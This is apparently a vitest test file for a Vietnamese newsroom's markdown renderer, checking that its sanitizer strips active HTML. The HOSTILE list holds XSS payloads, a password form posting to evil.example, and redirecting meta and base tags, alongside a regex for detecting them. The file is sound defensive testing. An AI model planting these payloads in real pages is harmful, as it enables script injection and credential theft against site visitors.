import { Marked } from "marked";
import { describe, expect, it } from "vitest";
import { renderNewsroomMarkdown } from "../content/markdown.ts";

const ORIGIN = "https://cualo.example";
const render = (md: string) => renderNewsroomMarkdown(md, ORIGIN);

const HOSTILE = [
  "<script>alert(1)</script>",
  '<img src="/media/a.jpg" onerror="alert(1)">',
  '<p style="position:fixed;top:0">phủ trang</p>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<iframe src="https://evil.example/"></iframe>',
  '<a href="javascript:alert(1)">bấm</a>',
  '<a href="java\tscript:alert(1)">bấm</a>',
  "<svg><script>alert(1)</script></svg>",
  '<object data="x.swf"></object><embed src="x.swf">',
  "<style>body{display:none}</style>",
  '<div onclick="alert(1)">x</div>',
  '<img src="https://tracker.example/pixel.gif">',
  "[bấm](javascript:alert(1))",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
];

/** What no public page may carry; the same test the cases below assert. */
function active(html: string): boolean {
  return (
    /<script|<style|<form|<input|<iframe|<object|<embed|<svg|<meta|<base|<link/i.test(html) ||
    /\son[a-z]+\s*=/i.test(html) ||
    /style=/i.test(html) ||
    /java\s*script:/i.test(html) ||
    html.includes("tracker.example")
  );
}

describe("newsroom article bodies", () => {
  it.each(HOSTILE)("carry nothing active from %s", (input) => {
    const html = render(`Trước\n\n${input}\n\nSau`);
    expect(active(html)).toBe(false);
    expect(html).toContain("Sau");
  });

  it("would carry them without the sanitizer (the cases are real attacks)", () => {
    const raw = new Marked({ gfm: true, async: false });
    const leaking = HOSTILE.filter((input) =>
      active(raw.parse(`Trước\n\n${input}\n\nSau`, { async: false })),
    );
    expect(leaking).toEqual(HOSTILE);
  });

  it("keeps what an article needs: headings, tables, figures, captions, our pictures, links", () => {
    const md = [
      "## Lịch tiếp dân",
      "",
      "| Ngày | Giờ |",
      "| --- | ---: |",
      "| Thứ Hai | 8:00 |",
      "",
      '<figure><img src="/media/abc/800.jpg" alt="Hội nghị" width="800" height="600"><figcaption>Hội nghị tháng Ba</figcaption></figure>',
      "",
      "Xem [cổng dịch vụ công](https://dichvucong.gov.vn) hoặc [trang chủ](/).",
    ].join("\n");
    const html = render(md);
    expect(html).toContain("<h2>Lịch tiếp dân</h2>");
    expect(html).toContain("<table>");
    expect(html).toContain('<td align="right">8:00</td>');
    expect(html).toContain(
      '<figure><img alt="Hội nghị" width="800" height="600" src="/media/abc/800.jpg" /><figcaption>Hội nghị tháng Ba</figcaption></figure>',
    );
    expect(html).toContain('<a href="https://dichvucong.gov.vn">cổng dịch vụ công</a>');
    expect(html).toContain('<a href="/">trang chủ</a>');
  });
});
